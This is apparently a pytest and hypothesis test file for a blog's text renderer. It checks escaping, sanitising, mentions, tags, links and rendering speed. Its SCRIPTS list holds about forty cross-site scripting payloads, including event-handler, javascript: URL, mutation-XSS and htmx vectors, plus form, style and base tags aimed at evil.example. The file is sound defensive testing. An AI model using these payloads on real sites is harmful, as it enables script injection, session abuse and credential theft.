"""Nothing that people type becomes markup, and what they meant as light markup does."""

import re
import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from corpblog.posts import rendering
from corpblog.posts.cleaning import clean
from corpblog.posts.errors import PostBroken, PostEmpty, PostTooLong
from corpblog.posts.markup import read as read_markup
from corpblog.posts.markup import tags, usernames
from corpblog.posts.rendering import render_text
from tests.posts.markup_checks import bare, read

PEOPLE = {"alice", "bruno", "jean-luc.petit"}
CHANNELS = {"general", "équipe-produit"}

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a data-hx-get=/sign-out/ data-hx-trigger=load>x</a>",
    "<div hx-get=/sign-out/ hx-trigger=load>x</div>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password></form>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onload=alert(1)/>",
    "</p></div></article><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "javascript:alert(1)",
    "jAvAsCrIpT&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://acme.example/"onmouseover="alert(1)',
    "https://acme.example/'onmouseover='alert(1)",
    "https://acme.example/><script>alert(1)</script>",
    "https://acme.example/`onclick=alert(1)`",
    "mailto:a@acme.example?body=<script>alert(1)</script>",
    "ftp://acme.example/<b>",
    "//evil.example/x.js",
    '@alice"onclick=alert(1)',
    '#tag"onclick=alert(1)',
    "{{ 7*7 }}{% load x %}",
    "\u202e<tpircs>alert(1)<tpircs/>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)
WRAPPERS = (
    "{}",
    "**{}**",
    "*a {} b*",
    "`{}`",
    "```\n{}\n```",
    "#x {} @bruno ~general{} https://acme.example/?q={}",
    "- a\n- {}\n> {}\n1. {}",
    "[{}](https://acme.example/) [a](https://acme.example/{})",
)
PAYLOADS = [wrapper.replace("{}", script) for script in SCRIPTS for wrapper in WRAPPERS]


def test_there_are_at_least_two_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_becomes_markup(payload: str) -> None:
    seen = read(render_text(payload, PEOPLE, CHANNELS))
    assert bare(seen.words) == bare(payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_second_net_holds_when_the_first_is_torn(payload: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Were the renderer to forget to escape, the sanitiser alone would still let nothing foreign through."""
    monkeypatch.setattr(rendering, "escape", lambda text: text)
    tags = re.findall(r"<[^>]*>", render_text(payload, PEOPLE, CHANNELS))
    allowed = (
        r"</?(p|br|strong|em|code|pre|ul|ol|li|blockquote)>|<ol start=\"\d+\">"
        r"|</a>|<a( (class|href|rel)=\"[^\"<>]*\")*>"
    )
    assert [tag for tag in tags if not re.fullmatch(allowed, tag)] == []
    assert not re.search(r"href=\"\s*(javascript|data|vbscript)", "".join(tags), re.IGNORECASE)


SIGNS = st.sampled_from(
    [*"<>&\"'`*_#@~/:.-\n ()[]{}=;!?%\\", "**", "```", "\n\n", "https://", "mailto:", "javascript:"]
)
WORDS = st.sampled_from(
    ["alice", "bruno", "a", "café", "évé", "1", "日本", "👩‍💻", "onclick", "script", "acme.example", "\u0301"]
)
TYPED = st.lists(st.one_of(SIGNS, WORDS, st.text(max_size=8)), max_size=30).map("".join)


@settings(max_examples=600, deadline=None)
@given(TYPED)
@example("**a ```\nb\n``` c**")
@example("*a\n\nb*")
@example("@al.ice@evil.example")
def test_whatever_is_typed_is_read_as_it_was_typed(text: str) -> None:
    try:
        text = clean(text)
    except (PostBroken, PostEmpty, PostTooLong):
        return
    seen = read(render_text(text, PEOPLE, CHANNELS))
    assert bare(seen.words) == bare(text)


def test_light_markup_is_drawn() -> None:
    html = render_text("**bold** *italic* `a*b*c`\nnext\n\nparagraph")
    assert html == ("<p><strong>bold</strong> <em>italic</em> <code>a*b*c</code><br>next</p><p>paragraph</p>")


def test_a_block_of_code_keeps_its_lines() -> None:
    html = render_text("Look:\n```\nif a < b:\n\n    **run**()\n```\nSee?")
    assert html == "<p>Look:</p><pre><code>if a &lt; b:\n\n    **run**()</code></pre><p>See?</p>"


@pytest.mark.parametrize(
    "text", ["2*3*4 = 24", "*an item", "5 ** 2", "a * b * c", "**open", "f(*args, **kwargs)", "snake*case*"]
)
def test_stars_that_mean_stars_stay(text: str) -> None:
    assert render_text(text) == f"<p>{text}</p>"


def test_emphasis_nests_and_never_crosses() -> None:
    assert render_text("**a *b* c**") == "<p><strong>a <em>b</em> c</strong></p>"
    assert render_text("**a *b** c*") == "<p><strong>a *b</strong> c*</p>"


def test_emphasis_does_not_reach_over_a_paragraph() -> None:
    assert render_text("**a\n\nb**") == "<p>**a</p><p>b**</p>"


def test_emphasis_stays_in_its_line() -> None:
    assert render_text("- *a\n- b*") == "<ul><li>*a</li><li>b*</li></ul>"
    assert render_text("> **a**\nb") == "<blockquote><p><strong>a</strong></p></blockquote><p>b</p>"


def test_lines_become_lists_and_quotes() -> None:
    html = render_text("Bring:\n- bread\n* salt\n\n3. three\n4. four\n> said\n> twice\nend")
    assert html == (
        "<p>Bring:</p><ul><li>bread</li><li>salt</li></ul>"
        '<ol start="3"><li>three</li><li>four</li></ol><blockquote><p>said<br>twice</p></blockquote><p>end</p>'
    )


def test_numbers_are_shown_as_they_were_typed() -> None:
    assert render_text("1. a\n1. b\n7. c") == ('<ol><li>a</li></ol><ol><li>b</li></ol><ol start="7"><li>c</li></ol>')


@pytest.mark.parametrize("text", ["-5 degrees", "1.5 litres", "2024. ", "a - b", "- "])
def test_lines_that_list_nothing_stay(text: str) -> None:
    assert render_text(text) == f"<p>{text}</p>"


def test_a_named_link_says_where_it_leads() -> None:
    html = render_text("See [the plan](https://acme.example/plan?a=1).")
    link = '<a class="link" href="https://acme.example/plan?a=1" rel="noopener noreferrer nofollow">the plan</a>'
    assert html == f"<p>See {link} (acme.example).</p>"


@pytest.mark.parametrize(
    "text", ["[https://bank.example](https://evil.example)", "[x](javascript:alert)", "[ ](https://acme.example)"]
)
def test_a_name_that_deceives_is_no_name(text: str) -> None:
    assert "[" in render_text(text)


def test_a_channel_that_the_author_knows_becomes_a_link() -> None:
    html = render_text("Ask in ~general, or ~Équipe-Produit.", channels=CHANNELS)
    general = '<a class="mention" href="/c/general/">~general</a>'
    product = '<a class="mention" href="/c/%C3%A9quipe-produit/">~Équipe-Produit</a>'
    assert html == f"<p>Ask in {general}, or {product}.</p>"


@pytest.mark.parametrize("text", ["~secret", "~general/notes", "x~general", "~~general~~", "~ general", "~1general"])
def test_what_is_no_known_channel_stays_text(text: str) -> None:
    assert render_text(text, channels=CHANNELS) == f"<p>{text}</p>"


def test_only_web_and_mail_addresses_become_links() -> None:
    seen = read(
        render_text(
            "https://acme.example/a?b=c&d, HTTP://X.example mail bob@acme.example ftp://x.example main.py //y.example"
        )
    )
    assert [link["href"] for link in seen.links] == [
        "https://acme.example/a?b=c&d",
        "HTTP://X.example",
        "mailto:bob@acme.example",
    ]


def test_an_address_keeps_its_signs() -> None:
    html = render_text("https://acme.example/@alice/#top*a*b*")
    assert "mention" not in html
    assert "<em>" not in html


def test_who_exists_is_linked_and_who_does_not_is_text() -> None:
    html = render_text("@Alice, @nobody and @jean-luc.petit.", PEOPLE)
    assert '<a class="mention" href="/@alice/">@Alice</a>, @nobody and' in html
    assert '<a class="mention" href="/@jean-luc.petit/">@jean-luc.petit</a>.' in html


@pytest.mark.parametrize(
    "text", ["mail alice@acme.example", "@alice@elsewhere.example", "x@alice", "a/@alice", "`@alice`"]
)
def test_names_inside_other_things_are_nobody(text: str) -> None:
    assert usernames(read_markup(text)) == []


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("#Réunion #reunion", ["reunion"]),
        ("(#a1)", ["a1"]),
        ("#123 is a ticket", []),
        ("#été2026!", ["ete2026"]),
        ("a#b &#x41; ##c `#d`", []),
        ("#日本", ["日本"]),
        ("#cafe\u0301", ["cafe"]),
    ],
)
def test_tags_are_folded_and_need_a_letter(text: str, found: list[str]) -> None:
    assert tags(read_markup(text)) == found


@pytest.mark.parametrize(
    "text",
    [
        "*" * 4000,
        "**a" * 1300,
        "`" * 4000,
        "@a" * 2000,
        "#" * 4000,
        "#1" * 2000,
        "@" + "a." * 2000,
        "https://" * 500,
        "a@" * 2000,
        "mailto:" * 570,
        "x://" * 1000,
        "(" * 4000,
        "\n" * 4000,
        "http://a.b/" + "(" * 3900,
    ],
)
def test_no_text_takes_long_to_draw(text: str) -> None:
    # Not a benchmark: what is quadratic or worse takes seconds here.
    started = time.process_time()
    read(render_text(text))
    assert time.process_time() - started < 2
